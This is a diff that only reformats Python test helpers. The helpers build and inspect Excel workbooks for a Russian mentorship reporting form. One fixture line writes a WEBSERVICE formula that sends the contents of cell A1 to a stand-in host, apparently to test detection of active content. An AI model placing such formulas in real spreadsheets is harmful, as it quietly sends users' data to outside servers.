@@ -34,11 +34,17 @@ def tiny_book(
             if value is not None:
                 sheet.write(row, 0, value)
         if active:
-            sheet.write_formula(9, 0, "=WEBSERVICE(\"http://example.invalid/?\"&A1)")
+            sheet.write_formula(9, 0, '=WEBSERVICE("http://example.invalid/?"&A1)')
         if meta:
             hidden = book.add_worksheet("_meta")
             hidden.very_hidden()
-            stamped = {"form_id": form_id, "form_version": "2026.1", "org_code": code, "submission": submission, "packed_at": packed_at}
+            stamped = {
+                "form_id": form_id,
+                "form_version": "2026.1",
+                "org_code": code,
+                "submission": submission,
+                "packed_at": packed_at,
+            }
             for row, key in enumerate(META_KEYS):
                 hidden.write_string(row, 0, key)
                 if stamped.get(key) is not None:
@@ -55,7 +61,11 @@ class TinyInspector:
         try:
             book = python_calamine.CalamineWorkbook.from_path(str(path))
             rows = book.get_sheet_by_name("Данные").to_python(skip_empty_area=False)
-            meta = dict(r[:2] for r in book.get_sheet_by_name("_meta").to_python() if len(r) > 1) if "_meta" in book.sheet_names else {}
+            meta = (
+                dict(r[:2] for r in book.get_sheet_by_name("_meta").to_python() if len(r) > 1)
+                if "_meta" in book.sheet_names
+                else {}
+            )
         except Exception as error:
             return Verdict("unreadable", f"не открывается ({type(error).__name__})")
         cells = [row[0] for row in rows] + [""] * 7
@@ -63,7 +73,10 @@ class TinyInspector:
         if form_id not in ("school", "district"):
             return Verdict("not-ours", "это не книга наставничества")
         errors = int(errors or 0)
-        remarks = tuple(Remark("error", "Наставники", f"B{6 + i}", "Не указана фамилия.", "Впишите фамилию.", "required") for i in range(errors))
+        remarks = tuple(
+            Remark("error", "Наставники", f"B{6 + i}", "Не указана фамилия.", "Впишите фамилию.", "required")
+            for i in range(errors)
+        )
         return Verdict(
             "errors" if errors else "ok", form_id=form_id, version=str(meta.get("form_version") or ""), org_code=str(code) or None,
             org_name=name, inn=str(inn) or None, school_year=year, submission=int(meta.get("submission") or 0) or None,
